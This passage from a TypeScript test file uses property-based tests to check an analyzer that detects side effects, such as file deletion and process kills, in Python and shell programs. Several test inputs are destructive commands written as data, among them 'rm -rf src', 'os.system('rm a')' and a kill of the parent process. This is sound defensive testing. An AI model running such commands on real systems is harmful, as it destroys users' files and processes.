  (statement) => `for i in x:\n${indented(statement)}`,
  (statement) => `while x:\n${indented(statement)}`,
  (statement) => `def f(a=1):\n${indented(statement)}`,
  (statement) => `def f():\n${indented(statement)}\nf()`,
  (statement) => `async def f():\n${indented(statement)}`,
  (statement) => `class A:\n    def f(self):\n${indented(indented(statement))}`,
  (statement) => `match x:\n    case 1:\n${indented(indented(statement))}`,
  (statement) => `exec(${JSON.stringify(statement)})`,
];
const additions = [
  "x = 1",
  "print('a')",
  "import math",
  "def g(): return 2",
  "os.getcwd()",
  "y = [i for i in range(3)]",
  "# os",
  "'''text'''",
];

describe("properties of all programs", () => {
  it("an effect is found inside any other statement", () => {
    fc.assert(
      fc.property(
        fc.constantFrom(...harms),
        fc.array(fc.constantFrom(...wrappers), { maxLength: 3 }),
        (harm, around) => {
          const wrapped = imports + around.reduce((text, wrap) => wrap(text), harm);
          expect(effectTexts(wrapped)).toEqual(expect.arrayContaining([...effectTexts(imports + harm)]));
        },
      ),
    );
  });

  it("adding statements keeps the effects of the old ones", () => {
    fc.assert(
      fc.property(
        fc.constantFrom(...harms),
        fc.array(fc.constantFrom(...additions)),
        fc.array(fc.constantFrom(...additions)),
        (harm, before, after) => {
          const program = imports + [...before, harm, ...after].join("\n");
          expect(effectTexts(program)).toEqual(expect.arrayContaining([...effectTexts(imports + harm)]));
        },
      ),
    );
  });

  it("an alias of a module changes no effects", () => {
    fc.assert(
      fc.property(
        fc.constantFrom("os.remove('a')", "os.system('rm a')", "os.kill(1, 9)", "os.rename('a', 'b')"),
        fc.stringMatching(/^[b-df-km-z][a-z]{0,8}_$/),
        (call, name) => {
          const renamed = call.replace("os", name);
          expect(effectTexts(`import os as ${name}\n${renamed}`)).toEqual(effectTexts(`import os\n${call}`));
          expect(effectTexts(`import os\n${name} = os\n${renamed}`)).toEqual(effectTexts(`import os\n${call}`));
        },
      ),
    );
  });

  it("reading never throws, and ranges lie inside the program", () => {
    const tokens = fc.constantFrom(
      ..."import os from as def class if else for in while try except with lambda yield return f'{x}' 'a' \"b\" r'\\' 1 x os.remove ( ) [ ] { } : , . = == + * ** % / @ -> ; \n \n\t # \\ eval exec open getattr __import__ print subprocess.run shell=True True None await async := ... '''".split(
        " ",
      ),
    );
    const soup = fc.array(tokens, { maxLength: 60 }).map((parts) => parts.join(" "));
    const mutated = fc
      .tuple(fc.constantFrom(...wrappers), fc.constantFrom(...harms), fc.nat(), fc.nat(6), fc.string())
      .map(([wrap, harm, at, removed, added]) => {
        const program = imports + wrap(harm);
        const place = at % program.length;
        return program.slice(0, place) + added + program.slice(place + removed);
      });
    fc.assert(
      fc.property(fc.oneof(soup, mutated, fc.string({ unit: "binary" })), (program) => {
        for (const { start, end } of readPython(program).effects) {
          expect(start).toBeGreaterThanOrEqual(0);
          expect(end).toBeGreaterThanOrEqual(start);
          expect(end).toBeLessThanOrEqual(program.length);
        }
      }),
    );
  });

  it("the effects are plain JSON", () => {
    fc.assert(
      fc.property(fc.constantFrom(...harms), fc.constantFrom(...wrappers), (harm, wrap) => {
        const { effects } = readPython(imports + wrap(harm));
        expect(JSON.parse(JSON.stringify(effects))).toEqual(effects);
      }),
    );
  });
});

describe("a program of a command that does not parse", () => {
  const broken = 'print(f"{d[\\"a\\"]}")';
  const isUnknown = (command: string): boolean => readShell(command).effects.some(({ kind }) => kind === "anything");

  it.each(["import sys, json\nd = json.load(sys.stdin)", "import json; import sys; print(sys.argv[1])"])(
    "does nothing if it names nothing that reaches out of it: %s",
    (program) => {
      expect(isUnknown(`python3 -c '${program}\n${broken}'`)).toBe(false);
    },
  );

  it.each([
    ["python3", "import sys\nsys.modules['os']"],
    ["python3", "import sys as s\ns.modules"],
    ["python3", "from sys import modules"],
    ["python3", "import json, sys\n(sys).modules"],
    ["python3", "open('a', 'w')"],
    ["ipython", "rm -rf src"],
    ["ipython", "x = !rm -rf src"],
    ["ipython", "  run evil.py"],
  ])("is unknown otherwise: %s -c %s", (name, program) => {
    expect(isUnknown(`${name} -c "${program}\n${broken.replaceAll(/["\\]/g, "\\$&")}"`)).toBe(true);
  });
});

it("a signal to the program itself stops no other process", () => {
  const kinds = (program: string): readonly string[] => readPython(program).effects.map(({ kind }) => kind);
  expect(kinds("import os, signal\nos.kill(os.getpid(), signal.SIGUSR1)")).not.toContain("signal");
  expect(kinds("import os\nos.kill(os.getppid(), 9)")).toContain("signal");
});

describe("a class that derives from a class of a library", () => {
  it.each([
    ["delete a", "from pathlib import Path\nclass P(Path): pass\nP('a').unlink()"],
    ["delete a", "from pathlib import PosixPath\nclass P(PosixPath):\n  def wipe(self): self.unlink()\nP('a').wipe()"],
    ["delete a", "from pathlib import Path\nclass P(Path):\n  def unlink(self): super().unlink()\nP('a').unlink()"],
    ["delete a", "from pathlib import Path\nclass P(Path): pass\nclass R(P): pass\nR('a').unlink()"],
    ["delete a", "import subprocess\nclass Q(subprocess.Popen): pass\nQ(['rm', 'a'])"],
    [
      "delete a",
      "import subprocess\nclass Q(subprocess.Popen):\n  def __init__(self, name): super().__init__(['rm', name])\nQ('a')",
    ],
  ])("has its effects: %s", (effect, program) => {
    expect(effectTexts(program)).toContain(effect);
  });

  it("has no others", () => {
    const program =
      "import threading\nclass W(threading.Thread):\n  def run(self): print(1)\nW().start()\nclass E(Exception): pass\nraise E('x')";
    expect(effectTexts(program)).toEqual([]);
  });
});
